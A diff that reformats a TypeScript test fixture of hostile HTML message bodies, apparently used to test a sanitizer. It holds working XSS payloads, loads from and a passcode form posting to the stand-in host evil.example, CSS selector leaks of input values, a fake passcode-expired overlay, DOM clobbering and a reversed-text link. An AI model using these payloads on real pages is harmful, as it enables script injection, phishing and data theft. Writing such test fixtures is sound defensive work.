@@ -1,4 +1,7 @@
-/** Bodies as somebody hostile would write them. Each tries to run `pwned()`, to load something of evil.example, or to leave its frame. */
+/**
+ * Bodies as somebody hostile would write them. Each tries to run `pwned()`, to load something of evil.example, or to
+ * leave its frame.
+ */
 const LOAD = 'http://evil.example';
 
 export const hostileBodies: readonly (readonly [what: string, html: string])[] = [
@@ -16,15 +19,24 @@ export const hostileBodies: readonly (readonly [what: string, html: string])[] =
   ['an image with a slash for a space', '<img/src=x/onerror=pwned("slash")>'],
   ['a body that loads', '<body onload=pwned("body")>'],
   ['a body with a background', `<body background="${LOAD}/bg.png">text</body>`],
-  ['a table with a background', `<table background="${LOAD}/t.png"><tr><td background="${LOAD}/td.png">x</td></tr></table>`],
+  [
+    'a table with a background',
+    `<table background="${LOAD}/t.png"><tr><td background="${LOAD}/td.png">x</td></tr></table>`,
+  ],
   ['svg that loads', '<svg onload=pwned("svg")></svg>'],
   ['svg with a script', '<svg><script>pwned("svg script")</script></svg>'],
   ['svg with an animation', '<svg><animate onbegin=pwned("animate") attributeName=x dur=1s>'],
-  ['svg with a foreign object', '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="pwned(1)"></body></foreignObject></svg>'],
+  [
+    'svg with a foreign object',
+    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="pwned(1)"></body></foreignObject></svg>',
+  ],
   ['svg that uses another', `<svg><use href="${LOAD}/x.svg#a"></use></svg>`],
   ['svg image', `<svg><image href="${LOAD}/i.png"></image></svg>`],
   ['math with a link', `<math><a xlink:href="javascript:pwned(1)">click</a></math>`],
-  ['math and style mixed', '<math><mtext><table><mglyph><style><img src=x onerror=pwned("mxss")></style></mglyph></table></mtext></math>'],
+  [
+    'math and style mixed',
+    '<math><mtext><table><mglyph><style><img src=x onerror=pwned("mxss")></style></mglyph></table></mtext></math>',
+  ],
   ['noscript and title mixed', '<noscript><p title="</noscript><img src=x onerror=pwned(1)>"></noscript>'],
   ['a comment that ends early', '<!--><img src=x onerror=pwned("comment")>-->'],
   ['a CDATA section', '<![CDATA[><img src=x onerror=pwned("cdata")>]]>'],
@@ -38,7 +50,10 @@ export const hostileBodies: readonly (readonly [what: string, html: string])[] =
   ['a link of script', '<a href="javascript:pwned(1)">Open the message</a>'],
   ['a link of script, spelled apart', '<a href="java\tscript:pwned(1)">x</a><a href="&#106;avascript:pwned(2)">y</a>'],
   ['a link of data', '<a href="data:text/html,<script>opener.pwned(1)</script>">x</a>'],
-  ['a form to elsewhere', `<form action="${LOAD}/post" method="post"><input name="passcode" autofocus onfocus=pwned("focus")><button>Send</button></form>`],
+  [
+    'a form to elsewhere',
+    `<form action="${LOAD}/post" method="post"><input name="passcode" autofocus onfocus=pwned("focus")><button>Send</button></form>`,
+  ],
   ['a button with an action', `<button formaction="javascript:pwned(1)">x</button>`],
   ['an input that is focused', '<input autofocus onfocus=pwned("input")>'],
   ['a text area', '<textarea autofocus onfocus=pwned("area")></textarea>'],
@@ -53,15 +68,33 @@ export const hostileBodies: readonly (readonly [what: string, html: string])[] =
   ['a style sheet', `<link rel="stylesheet" href="${LOAD}/s.css">`],
   ['a preload', `<link rel="preload" as="image" href="${LOAD}/p.png"><link rel="dns-prefetch" href="//evil.example">`],
   ['a style block', `<style>@import url(${LOAD}/i.css); body{background:url(${LOAD}/b.png)}</style>`],
-  ['style that reads by selectors', `<style>input[value^="4"]{background:url(${LOAD}/4)}</style><input value="482913">`],
+  [
+    'style that reads by selectors',
+    `<style>input[value^="4"]{background:url(${LOAD}/4)}</style><input value="482913">`,
+  ],
   ['style that loads', `<p style="background:url(${LOAD}/p.png)">x</p>`],
-  ['style that loads, spelled apart', `<p style="background:u\\72l(${LOAD}/p.png)">x</p><p style="list-style:\\75 rl('${LOAD}/l.png')">y</p>`],
-  ['style that loads by image-set', `<p style="background:image-set('${LOAD}/is.png' 1x)">x</p><p style="border-image:-webkit-image-set(url(${LOAD}/w.png) 1x)">y</p>`],
+  [
+    'style that loads, spelled apart',
+    `<p style="background:u\\72l(${LOAD}/p.png)">x</p><p style="list-style:\\75 rl('${LOAD}/l.png')">y</p>`,
+  ],
+  [
+    'style that loads by image-set',
+    `<p style="background:image-set('${LOAD}/is.png' 1x)">x</p><p style="border-image:-webkit-image-set(url(${LOAD}/w.png) 1x)">y</p>`,
+  ],
   ['style that loads a pointer', `<p style="cursor:url(${LOAD}/c.cur),auto">x</p>`],
   ['style with an expression', '<p style="width:expression(pwned(1))">x</p>'],
-  ['style that covers everything', '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Your passcode has expired. Ring 0900.</div>'],
-  ['style that leaves its place', '<div style="position:absolute;top:-4000px;left:-4000px;width:9999px;height:9999px">out</div>'],
-  ['a name that takes over', '<img name="getElementById"><form id="body"><input name="parentNode"></form><a id="location">x</a>'],
+  [
+    'style that covers everything',
+    '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Your passcode has expired. Ring 0900.</div>',
+  ],
+  [
+    'style that leaves its place',
+    '<div style="position:absolute;top:-4000px;left:-4000px;width:9999px;height:9999px">out</div>',
+  ],
+  [
+    'a name that takes over',
+    '<img name="getElementById"><form id="body"><input name="parentNode"></form><a id="location">x</a>',
+  ],
   ['a template', '<template><img src=x onerror=pwned("template")></template>'],
   ['a custom element with a slot', '<x-y onclick=pwned(1)><slot onslotchange=pwned(2)></slot></x-y>'],
   ['letters turned round', '\u202e<a href="http://evil.example/">exe.fdp</a>\u202c'],
